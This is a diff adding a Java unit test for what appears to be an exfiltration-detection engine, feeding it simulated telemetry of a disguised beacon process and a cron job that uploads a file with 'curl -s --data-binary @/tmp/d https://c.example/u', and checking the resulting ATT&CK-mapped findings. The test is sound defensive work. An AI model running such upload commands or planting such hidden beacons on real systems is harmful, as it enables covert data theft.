@@ -195,6 +195,56 @@ class EndpointTransferTest {
     });
   }
 
+  @Test
+  void onLinuxALongLivedProcessNotStartedByCronBeatingOutIsAn1113AndACronJobAn1119() {
+    Estate e = new Estate();
+    String beacon = "/var/tmp/.x/kworkerd";
+    e.events.add(new ProcessStart(T0, "app02", new ProcessRef(null, 2210), beacon, beacon + " -d", "1001", null, "/",
+        new ProcessRef(null, 2200), null, null, null, null, new Origin("audit.log", 1)));
+    Random rnd = new Random(9);
+    long t = T0;
+    for (int i = 0; i < 200; i++) {
+      t += (long) (300 * (0.6 + 0.8 * rnd.nextDouble()) * S);
+      e.events.add(new NetworkConnection(t, "app02", new ProcessRef(null, 2210), beacon, "1001", null, true, null, -1,
+          "192.0.2.150", 443, null, new Origin("audit.log", 10 + i)));
+      e.flows.add(new Flow(t + S / 3, null, "10.30.0.14", 40000 + i, "192.0.2.150", 443, "tcp", null, S, 50_000, 700,
+          "SF", new Origin("conn.log", i)));
+    }
+    // cron on web01: the job's shell is the CMD line's pid; curl uploads every 15 minutes
+    for (int i = 0; i < 96; i++) {
+      long run = T0 + (i + 1) * 900 * S;
+      long sh = 5000 + 3 * i;
+      e.events.add(new JobRun(run, "web01", "/dev/shm/up.sh", JobRun.Phase.PROCESS_CREATED, null, null, sh, -1,
+          "www-data", new Origin("syslog", i)));
+      e.events.add(new ProcessStart(run + 1000, "web01", new ProcessRef(null, sh), "/usr/bin/dash",
+          "/bin/sh -c /dev/shm/up.sh", "33", null, "/", new ProcessRef(null, 4999), null, null, null, null,
+          new Origin("audit.log", 1000 + i)));
+      e.events.add(new ProcessStart(run + 2 * S, "web01", new ProcessRef(null, sh + 1), "/usr/bin/curl",
+          "curl -s --data-binary @/tmp/d https://c.example/u", "33", null, "/", new ProcessRef(null, sh), null, null,
+          null, null, new Origin("audit.log", 2000 + i)));
+      e.events.add(new NetworkConnection(run + 3 * S, "web01", new ProcessRef(null, sh + 1), "/usr/bin/curl", "33", null,
+          true, null, -1, "203.0.113.80", 443, null, new Origin("audit.log", 3000 + i)));
+      e.flows.add(new Flow(run + 3 * S + S / 2, null, "10.30.0.11", 50000 + i, "203.0.113.80", 443, "tcp", null, S,
+          900_000, 4_000, "SF", new Origin("conn.log", 500 + i)));
+    }
+    List<Finding> findings = e.analyze(DestinationAllowlist.empty(), ParentProcessBaseline.empty()).findings();
+
+    Finding bg = findings.stream().filter(f -> f.host().equals("app02")).findFirst().orElseThrow();
+    assertThat(bg.analytic()).isEqualTo("AN1113");
+    assertThat(bg.technique()).containsExactly("T1020");
+    assertThat(bg.initiator().job()).isNull();
+    assertThat(bg.initiator().image()).isEqualTo(beacon);
+    assertThat(bg.bytesOut()).isEqualTo(10_000_000);
+    assertThat(part(bg, "user_writable_path").note()).isEqualTo("runs from /var/tmp/");
+
+    Finding cron = findings.stream().filter(f -> f.host().equals("web01")).findFirst().orElseThrow();
+    assertThat(cron.analytic()).isEqualTo("AN1119");
+    assertThat(cron.technique()).containsExactly("T1029", "T1020", "T1053.003");
+    assertThat(cron.initiator().job()).isEqualTo("/dev/shm/up.sh");
+    assertThat(cron.initiator().linkedBy()).isEqualTo("cron CMD of parent dash (pid " + (5000 + 3 * 95) + ")");
+    assertThat(cron.bytesOut()).isEqualTo(96 * 900_000L);
+  }
+
   static ScorePart part(Finding f, String name) {
     return f.scoreParts().stream().filter(p -> p.name().equals(name)).findFirst().orElseThrow();
   }
